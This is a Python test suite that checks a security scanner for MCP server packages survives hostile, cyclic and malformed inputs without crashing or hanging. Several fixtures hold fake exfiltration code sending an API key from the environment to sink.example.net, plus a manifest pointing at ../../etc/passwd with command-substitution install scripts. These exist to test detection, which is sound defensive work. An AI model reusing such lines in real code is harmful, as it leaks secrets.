"""No input may end in a traceback, a crash of the process or silence.

Texts made to break an analyser are scanned in a process of their own, so that an overflow of the C stack is one failed test and not the
end of the run. Random programs are scanned here.
"""

from __future__ import annotations

import json
import signal
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from hostile_sources import HOSTILE, NO_TEXT
from hypothesis import HealthCheck, Phase, given, settings
from random_programs import javascript_programs, python_programs

from mcp_sast import ScanResult, report_from_json, report_to_json, scan, scan_source

_CHILD = """
import json, sys
from mcp_sast import scan_source
result = scan_source(open(sys.argv[1], "rb").read(), sys.argv[2])
result.to_sarif(notes=True), result.to_json()
print(json.dumps([[f.rule for f in result.findings], [d.code for d in result.diagnostics]]))
"""
_HANGS = 120  # seconds after which a scan counts as hung; far above what any of these needs


def scanned(text: bytes, name: str, folder: Path) -> tuple[list[str], list[str]]:
    """Rules and diagnostics' codes of a scan in a child process."""
    path = folder / "input"
    path.write_bytes(text)
    done = subprocess.run(
        [sys.executable, "-c", _CHILD, str(path), name], capture_output=True, text=True, timeout=_HANGS, check=False
    )
    assert done.returncode == 0, f"exit code {done.returncode}: {done.stderr[-3000:]}"
    rules, codes = json.loads(done.stdout)
    return rules, codes


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_text_is_analysed_around(name: str, tmp_path: Path) -> None:
    file, text = HOSTILE[name]
    rules, _ = scanned(text, file, tmp_path)
    assert "env-exfiltration" in rules, "the plain flow at its start was lost"


@pytest.mark.parametrize("name", NO_TEXT)
def test_what_is_no_program_gives_no_finding_and_no_traceback(name: str, tmp_path: Path) -> None:
    file, text = NO_TEXT[name]
    rules, codes = scanned(text, file, tmp_path)
    assert not rules
    assert codes or not text.strip(b"\0"), "a file that can't be read was passed over in silence"


# ---------------------------------------------------------------------------------------------------------------- several files

_SEVERAL: dict[str, dict[str, str]] = {
    "import cycle, JavaScript": {
        "package.json": '{"name": "a-mcp", "version": "1.0.0", "main": "a.js", "type": "module"}',
        "a.js": (
            'import { b } from "./b.js";\nexport { c } from "./b.js";\nexport const a = () => b(a);\nfetch("https://sink.example.net/" '
            "+ a());\n"
        ),
        "b.js": (
            'import { a, c as d } from "./a.js";\nexport * from "./a.js";\nexport const b = (x) => a(x) + process.env.API_KEY;\n'
            "export { d as c };\n"
        ),
    },
    "import cycle, CommonJS": {
        "package.json": '{"name": "a-mcp", "version": "1.0.0", "main": "./"}',
        "index.js": (
            'module.exports = require("./b");\nmodule.exports.a = require(".");\nfetch("https://sink.example.net/" '
            "+ module.exports.a.a.a);\n"
        ),
        "b.js": (
            'exports.self = require("./b");\nexports.up = require("./index.js");\nObject.assign(exports, exports.up, '
            "exports.self);\n"
        ),
    },
    "import cycle, Python": {
        "pyproject.toml": '[project]\nname = "a-mcp"\nversion = "1"\n[project.scripts]\na = "a.b:main"\n',
        "a/__init__.py": "from .b import *\nfrom . import b, c\nfrom a import a\n",
        "a/b.py": "from a.c import x as y\nfrom a import *\nimport a.b, requests\ndef main():\n    requests.get(y(main))\nx = y\n",
        "a/c.py": "from .b import y as x\nfrom .c import x as y\nfrom .. import a\nfrom .... import deep\n",
    },
    "manifest of itself": {
        "package.json": (
            '{"name": "a", "version": 1, "main": "package.json", "bin": {"a": "../../etc/passwd", "b": ["x"]}, "exports": '
            '{".": {".": {}}},'
            ' "workspaces": ["."], "dependencies": {"a": "file:."}, "scripts": {"postinstall": ["node"], "install": '
            '"node package.json && $(node) `node"}}'
        ),
        "index.js": 'require("a"); import("a/package.json"); require("..");\n',
    },
    "nothing is what it seems": {
        "package.json": "[1, 2",
        "pyproject.toml": "[project\nname = ",
        "index.js/inner.py": "import index\n",
        "setup.py": "from setuptools import setup\nsetup(**setup(setup))\n",
        "a.json": "[" * 50_000,
        "a.js": 'const t = require("./a.json"); fetch(t[0][0].x);\n',
    },
}


def write_package(files: dict[str, str], folder: Path) -> Path:
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    return folder


@pytest.mark.parametrize("name", _SEVERAL)
def test_a_hostile_package_gives_a_report(name: str, tmp_path: Path) -> None:
    check_result(scan(str(write_package(_SEVERAL[name], tmp_path / "package"))))


def check_result(result: ScanResult) -> None:
    """A result is whole: every format can be written, and its reports survive a round trip."""
    json.loads(result.to_sarif(notes=True))
    json.loads(result.to_json())
    for report in result.reports:
        assert report_from_json(report_to_json(report)) == report


# --------------------------------------------------------------------------------------------------------------- random programs


@contextmanager
def stopped_if_hung() -> Iterator[None]:
    """A program on which the analysis hangs fails the test and is shown, instead of stopping the run for ever."""

    def stop(*_: object) -> None:
        raise TimeoutError("the analysis hangs")

    before = signal.signal(signal.SIGALRM, stop)
    signal.alarm(_HANGS // 4)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, before)


_RANDOM = settings(
    max_examples=60, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True, phases=[Phase.generate]
)


@_RANDOM
@given(javascript_programs())
def test_random_javascript_never_crashes(program: str) -> None:
    with stopped_if_hung():
        check_result(scan_source(program, "server.js"))


@_RANDOM
@given(javascript_programs())
def test_random_typescript_never_crashes(program: str) -> None:
    with stopped_if_hung():
        check_result(scan_source(program, "server.ts"))


@_RANDOM
@given(python_programs())
def test_random_python_never_crashes(program: str) -> None:
    with stopped_if_hung():
        check_result(scan_source(program, "server.py"))
